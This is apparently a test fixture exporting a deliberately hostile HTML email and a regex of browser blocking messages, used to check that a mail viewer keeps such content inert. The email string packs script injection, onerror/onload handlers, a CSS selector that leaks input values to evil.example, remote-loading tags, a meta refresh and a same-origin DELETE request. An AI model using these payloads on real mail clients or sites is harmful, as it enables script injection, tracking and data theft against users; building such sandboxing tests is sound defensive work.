/** A hostile HTML mail, for the tests of everything that shows one. */

/** Messages of the browser while it blocks captured content. */
export const KEPT_INERT =
  /Content Security Policy|sandboxed|Refused to|Blocked|ERR_BLOCKED|ERR_EMPTY_RESPONSE|was not allowed|Unsafe attempt/i;

/** An HTML mail that tries to run code, load, send and navigate. */
export const HOSTILE_HTML = `<!doctype html><html><head>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="preload" as="image" href="http://evil.example/preload.png">
<link rel="dns-prefetch" href="//dns.evil.example">
<style>@import url("http://evil.example/import.css");
@font-face { font-family: x; src: url("http://evil.example/font.woff") }
body { background: url("http://evil.example/background.png"); font-family: x }
input[value^="a"] { background: url("http://evil.example/exfiltrated") }</style>
</head><body background="http://evil.example/body.png"
  onload="top.document.title='PWNED';fetch('http://evil.example/onload')">
<script>top.document.title = "PWNED"; parent.PWNED = 1; fetch("http://evil.example/script")</script>
<script src="http://evil.example/script.js"></script>
<script>fetch("/api/v1/events", { method: "DELETE" })</script>
<img src="http://evil.example/pixel.gif" onerror="top.PWNED=1">
<img src=x onerror="top.document.title='PWNED'">
<picture><source srcset="http://evil.example/set.png 1x"><img src="//evil.example/two.png"></picture>
<svg onload="top.PWNED=1"><image href="http://evil.example/svg.png"/><script>top.PWNED=1</script></svg>
<iframe src="http://evil.example/frame"></iframe>
<iframe srcdoc="<script>top.PWNED=1</script>"></iframe>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<video src="http://evil.example/video" poster="http://evil.example/poster" autoplay></video>
<audio src="http://evil.example/audio" autoplay></audio>
<form id="f" action="http://evil.example/form"><input name="a" value="abc"><button id="send">Send</button></form>
<a id="js" href="javascript:top.PWNED=1">script link</a>
<a id="out" href="http://evil.example/link">link</a>
<a id="top" target="_top" href="http://evil.example/top">top link</a>
<a id="own" target="_top" href="/api/v1/health">own link</a>
<p id="shown">Still readable</p></body></html>`;
